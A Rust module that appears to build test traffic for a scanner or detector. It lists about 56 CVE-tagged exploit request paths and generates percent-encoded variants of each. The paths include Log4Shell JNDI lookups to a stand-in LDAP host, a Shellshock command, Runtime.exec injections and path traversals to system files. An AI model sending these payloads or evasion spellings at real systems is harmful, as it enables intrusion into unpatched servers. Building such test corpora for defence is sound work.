//! What is asked for to exploit which vulnerability, and in how many spellings?

use crate::mixed;

/// A vulnerability, and what is asked for to exploit it; `{}` stands for what each attacker chooses.
pub const EXPLOITS: &[(&str, &str)] = &[
    ("CVE-2021-44228", "/?x=${jndi:ldap://{}.example/a}"),
    ("CVE-2022-42889", "/?x=${script:javascript:{}}"),
    ("CVE-2014-6271", "/cgi-bin/{}?() { :; }; /bin/id"),
    ("CVE-2021-41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/{}"),
    ("CVE-2021-42013", "/icons/.%%32%65/.%%32%65/.%%32%65/bin/{}"),
    ("CVE-2022-22965", "/{}?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ("CVE-2022-22947", "/actuator/gateway/routes/{}"),
    ("CVE-2022-26134", "/${@java.lang.Runtime@getRuntime().exec(\"{}\")}/"),
    ("CVE-2021-26084", "/pages/doenterpagevariables.action?{}"),
    ("CVE-2023-22515", "/setup/setupadministrator.action?{}"),
    ("CVE-2023-22518", "/json/setup-restore.action?synchronous={}"),
    ("CVE-2021-26855", "/ecp/{}.js?x=1"),
    ("CVE-2021-34473", "/autodiscover/autodiscover.json?@{}.example/mapi/nspi"),
    ("CVE-2020-0688", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={}"),
    ("CVE-2019-19781", "/vpn/../vpns/portal/scripts/{}.pl"),
    ("CVE-2023-3519", "/gwtest/formssso?event=start&target={}"),
    ("CVE-2020-5902", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/{}"),
    ("CVE-2022-1388", "/mgmt/tm/util/bash?{}"),
    ("CVE-2019-11510", "/dana-na/../dana/html5acc/guacamole/../../../../{}"),
    ("CVE-2023-46805", "/api/v1/totp/user-backup-code/../../system/{}"),
    ("CVE-2023-35078", "/mifs/aad/api/v2/{}"),
    ("CVE-2018-13379", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/{}"),
    ("CVE-2022-40684", "/api/v2/cmdb/system/admin/{}"),
    ("CVE-2024-3400", "/global-protect/login.esp?x={}../../"),
    ("CVE-2024-0012", "/php/ztp_gate.php/{}.js.map"),
    ("CVE-2020-3452", "/+CSCOT+/translation-table?type=mst&textdomain=/{}"),
    ("CVE-2023-20198", "/webui_wsma_https?{}"),
    ("CVE-2022-22954", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=${7*7{}}"),
    ("CVE-2021-22005", "/analytics/telemetry/ph/api/hyper/send?_c={}"),
    ("CVE-2021-21972", "/ui/vropspluginui/rest/services/{}"),
    ("CVE-2023-34362", "/moveitisapi/moveitisapi.dll?action=m2&{}"),
    ("CVE-2024-27198", "/{}?jsp=/app/rest/server;.jsp"),
    ("CVE-2023-42793", "/app/rest/users/id:1/RPC2"),
    ("CVE-2024-1709", "/SetupWizard.aspx/{}"),
    ("CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{}"),
    ("CVE-2024-4577", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+{}"),
    ("CVE-2012-1823", "/{}?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp://input"),
    ("CVE-2018-20062", "/index.php?s=/index/think\\app/invokefunction&function=call_user_func_array&vars={}"),
    ("CVE-2018-7600", "/user/register?element_parents=account/mail/%23value&{}"),
    ("CVE-2019-18935", "/Telerik.Web.UI.WebResource.axd?type=rau&{}"),
    ("CVE-2017-10271", "/wls-wsat/CoordinatorPortType?{}"),
    ("CVE-2020-14882", "/console/css/%252e%252e%252fconsole.portal?{}"),
    ("CVE-2023-26360", "/CFIDE/adminapi/{}.cfc?method=x"),
    ("CVE-2022-27925", "/service/extension/backup/mboximport?account-name={}"),
    ("CVE-2024-36401", "/geoserver/wfs?service=WFS&valueReference=exec(java.lang.Runtime.getRuntime(),'{}')"),
    ("CVE-2016-3088", "/fileserver/{}.jsp"),
    ("CVE-2025-31324", "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&{}"),
    ("CVE-2020-6287", "/CTCWebService/CTCWebServiceBean/{}"),
    ("CVE-2021-43798", "/public/plugins/{}/../../../../etc/x"),
    ("CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&country=$({})"),
    ("CVE-2024-3273", "/cgi-bin/nas_sharing.cgi?user=messagebus&system={}"),
    ("CVE-2018-10562", "/GponForm/diag_Form?images/{}"),
    ("CVE-2023-23752", "/api/index.php/v1/config/application?public=true&{}"),
    ("CVE-2022-46169", "/cacti/remote_agent.php?action=polldata&host_id={}"),
    ("CVE-2023-32315", "/setup/setup-s/%u002e%u002e/%u002e%u002e/{}.jsp"),
    ("CVE-2024-23897", "/cli?remoting=false&{}"),
];

/// Spellings of each.
pub const SPELLINGS: usize = 12;

/// An attack in its nth spelling: as it is, with percent signs, doubled, behind a folder.
pub fn spelled(target: &str, number: usize) -> String {
    let seed = mixed(number as u64);
    let filled = target.replace("{}", &format!("{:x}", seed & 0xffff_ffff));
    let encoded = |text: &str, which: &dyn Fn(char) -> bool| -> String {
        let one = |c: char| if which(c) { format!("%{:02x}", u32::from(c)) } else { c.to_string() };
        text.chars().map(one).collect()
    };
    match number % 4 {
        0 | 1 => filled,
        2 => encoded(&filled, &|c| "${}() '\"<>".contains(c)),
        _ => encoded(&encoded(&filled, &|c| "${}() '\"<>".contains(c)), &|c| "{}$<>".contains(c)),
    }
}
